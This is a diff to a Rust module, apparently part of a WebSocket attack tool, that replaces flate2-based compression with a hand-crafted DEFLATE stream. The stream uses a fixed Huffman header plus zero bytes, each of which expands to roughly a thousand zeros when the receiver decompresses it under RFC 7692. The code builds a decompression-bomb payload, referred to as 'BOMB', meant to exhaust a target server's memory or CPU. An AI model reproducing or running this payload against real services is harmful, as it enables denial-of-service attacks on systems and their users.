@@ -3,8 +3,6 @@
 use std::sync::LazyLock;
 use std::time::{Duration, Instant};
 
-use flate2::{Compress, Compression, FlushCompress};
-
 use super::Attack;
 use super::link::{Link, Target, frame, header};
 
@@ -224,18 +222,16 @@ pub(crate) fn prepare() {
     LazyLock::force(&BOMB);
 }
 
-/// The payload of a message of `len` zeros.
+/// The payload of a message of `len` zeros or a few more: a block with dynamic Huffman codes (RFC 1951 §3.2.7), in which two bits
+/// that are zero repeat the last byte 258 times.
 fn zeros(len: usize) -> Vec<u8> {
-    let part = vec![0; 1 << 20];
-    let mut compress = Compress::new(Compression::fast(), false);
-    let mut out = Vec::with_capacity(len / 100 + 1024);
-    for at in (0..len).step_by(part.len()) {
-        let last = at + part.len() >= len;
-        let flush = if last { FlushCompress::Sync } else { FlushCompress::None };
-        if compress.compress_vec(&part[..part.len().min(len - at)], &mut out, flush).is_err() {
-            break;
-        }
-    }
-    out.truncate(out.len().saturating_sub(4));
+    /// The codes and the first zero; seven bits are left, the last one half of a repetition.
+    const HEAD: [u8; 14] =
+        [0xEC, 0xC0, 0x81, 0x00, 0x00, 0x00, 0x00, 0x80, 0xA0, 0xFD, 0xA9, 0x17, 0xA9, 0x00];
+    /// The other half of a repetition, the end of the block, and the start of the empty one that RFC 7692 takes off.
+    const END: u8 = 0x06;
+    let mut out = HEAD.to_vec();
+    out.resize(HEAD.len() + len / (4 * 258), 0x00);
+    out.push(END);
     out
 }
